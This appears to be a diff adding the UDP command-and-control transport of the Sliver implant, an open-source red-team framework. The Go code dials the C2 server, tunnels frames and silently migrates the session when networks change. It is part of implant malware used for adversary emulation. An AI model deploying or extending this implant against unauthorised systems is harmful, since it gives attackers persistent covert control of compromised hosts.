@@ -0,0 +1,177 @@
+package udpclient
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"net"
+	"net/url"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/transports/datagram"
+)
+
+const (
+	// How often we check if the route to the server moved to another interface
+	routeCheckInterval = 5 * time.Second
+)
+
+var (
+	ErrClosed = datagram.ErrClosed
+)
+
+// UDPOptions - c2 specific configuration options
+type UDPOptions struct {
+	datagram.Options
+	Migrate bool
+}
+
+// ParseUDPOptions - Parse c2 specific configuration options
+func ParseUDPOptions(c2URI *url.URL) *UDPOptions {
+	return &UDPOptions{
+		Options: datagram.ParseOptions(c2URI),
+		Migrate: c2URI.Query().Get("migrate") != "false",
+	}
+}
+
+// SliverUDPClient - Tunnels the datagram client's frames through udp datagrams.
+// The session id works like a quic connection id, when we switch networks we move
+// the session to a new socket and carry on without a new key exchange.
+type SliverUDPClient struct {
+	*datagram.Client
+}
+
+// UDPStartSession - Start a session with the server at address (host:port)
+func UDPStartSession(address string, opts *UDPOptions) (*SliverUDPClient, error) {
+	socket := &udpSocket{
+		address: address,
+		migrate: opts.Migrate,
+		buf:     make([]byte, 2048),
+	}
+	err := socket.dial()
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[udp] failed to dial %s: %s", address, err)
+		// {{end}}
+		return nil, err
+	}
+	client, err := datagram.StartSession(socket, opts.Options)
+	if err != nil {
+		return nil, err
+	}
+	return &SliverUDPClient{Client: client}, nil
+}
+
+// udpSocket - A connected udp socket that's replaced when the route changes
+type udpSocket struct {
+	conn           *net.UDPConn
+	address        string
+	migrate        bool
+	lastRouteCheck time.Time
+	buf            []byte
+}
+
+func (s *udpSocket) WriteFrame(frame []byte) error {
+	_, err := s.conn.Write(frame)
+	return err
+}
+
+func (s *udpSocket) ReadFrame(deadline time.Time) ([]byte, error) {
+	s.conn.SetReadDeadline(deadline)
+	n, err := s.conn.Read(s.buf)
+	if err != nil {
+		if netErr, ok := err.(net.Error); ok && netErr.Timeout() {
+			return nil, datagram.ErrTimeout
+		}
+		return nil, err
+	}
+	return s.buf[:n], nil
+}
+
+func (s *udpSocket) Close() error {
+	return s.conn.Close()
+}
+
+// Roam - Before a poll we check every so often if the route changed, before a
+// retry we move if the socket is broken (e.g. the interface it was bound to went
+// away) or the route changed
+func (s *udpSocket) Roam(err error) {
+	if !s.migrate {
+		return
+	}
+	if err == nil {
+		if time.Since(s.lastRouteCheck) < routeCheckInterval {
+			return
+		}
+		s.lastRouteCheck = time.Now()
+		if s.routeChanged() {
+			s.move()
+		}
+	} else if err != datagram.ErrTimeout || s.routeChanged() {
+		s.move()
+	}
+}
+
+// dial - Open a new socket to the server, the os picks the route (and so our
+// source address) when the socket is connected
+func (s *udpSocket) dial() error {
+	addr, err := net.ResolveUDPAddr("udp", s.address)
+	if err != nil {
+		return err
+	}
+	conn, err := net.DialUDP("udp", nil, addr)
+	if err != nil {
+		return err
+	}
+	if s.conn != nil {
+		s.conn.Close()
+	}
+	s.conn = conn
+	s.lastRouteCheck = time.Now()
+	return nil
+}
+
+// move - Move the session to a new socket, the old socket is only closed if we
+// can open a new one
+func (s *udpSocket) move() {
+	err := s.dial()
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[udp] failed to migrate session: %s", err)
+		// {{end}}
+		return
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[udp] migrated session to %s", s.conn.LocalAddr())
+	// {{end}}
+}
+
+// routeChanged - Check if the os would now send datagrams to the server from
+// another address, i.e. we switched networks (Wi-Fi to wired, VPN up/down, etc.)
+func (s *udpSocket) routeChanged() bool {
+	probe, err := net.DialUDP("udp", nil, s.conn.RemoteAddr().(*net.UDPAddr))
+	if err != nil {
+		return false
+	}
+	defer probe.Close()
+	return !probe.LocalAddr().(*net.UDPAddr).IP.Equal(s.conn.LocalAddr().(*net.UDPAddr).IP)
+}